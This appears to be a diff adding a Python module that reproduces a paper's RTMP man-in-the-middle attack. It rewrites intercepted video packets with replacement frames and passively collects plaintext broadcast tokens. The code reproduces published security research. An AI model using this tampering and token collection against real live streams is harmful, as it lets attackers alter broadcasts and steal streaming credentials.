@@ -1,0 +1,74 @@
+"""RTMP stream tampering (§7.1).
+
+The attack primitive: parse intercepted RTMP bytes, replace the video
+payload with attacker-chosen content (the paper's proof of concept used
+black frames), re-encode, and pass the packet along.  Works identically at
+the broadcaster's edge network (altering the stream for *all* viewers) and
+at a viewer's network (altering it for a *selected* audience).
+
+Everything here operates on real bytes through the
+:mod:`repro.protocols.rtmp` wire format — exactly what a custom parser on
+a sniffed socket would see.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Callable, Optional
+
+from repro.protocols.rtmp import (
+    RtmpPacket,
+    RtmpPacketType,
+    RtmpParseError,
+    parse_rtmp_packet,
+)
+
+#: A stand-in for an encoded all-black video frame.
+BLACK_FRAME_PAYLOAD = b"\x00" * 64
+
+
+@dataclass
+class RtmpTamperer:
+    """Rewrites video payloads inside RTMP packets.
+
+    Parameters
+    ----------
+    replacement:
+        Payload to substitute (default: black frames).
+    start_sequence:
+        Only tamper frames with sequence >= this — the attack "can
+        commence anytime during the broadcast".
+    predicate:
+        Optional extra filter on the parsed packet.
+    """
+
+    replacement: bytes = BLACK_FRAME_PAYLOAD
+    start_sequence: int = 0
+    predicate: Optional[Callable[[RtmpPacket], bool]] = None
+    packets_seen: int = field(default=0, init=False)
+    packets_tampered: int = field(default=0, init=False)
+    tokens_observed: set[str] = field(default_factory=set, init=False)
+
+    def __call__(self, data: bytes) -> bytes:
+        """Transform raw intercepted bytes (PayloadTransform signature)."""
+        try:
+            packet = parse_rtmp_packet(data)
+        except RtmpParseError:
+            return data  # not RTMP; pass through untouched
+        self.packets_seen += 1
+        # Issue (1) of §7.1: the broadcast token crosses the wire in
+        # plaintext — a passive observer collects it for free.
+        self.tokens_observed.add(packet.token)
+        if not self._should_tamper(packet):
+            return data
+        self.packets_tampered += 1
+        return packet.with_body(self.replacement).encode()
+
+    def _should_tamper(self, packet: RtmpPacket) -> bool:
+        if packet.packet_type is not RtmpPacketType.VIDEO:
+            return False
+        if packet.sequence < self.start_sequence:
+            return False
+        if self.predicate is not None and not self.predicate(packet):
+            return False
+        return True
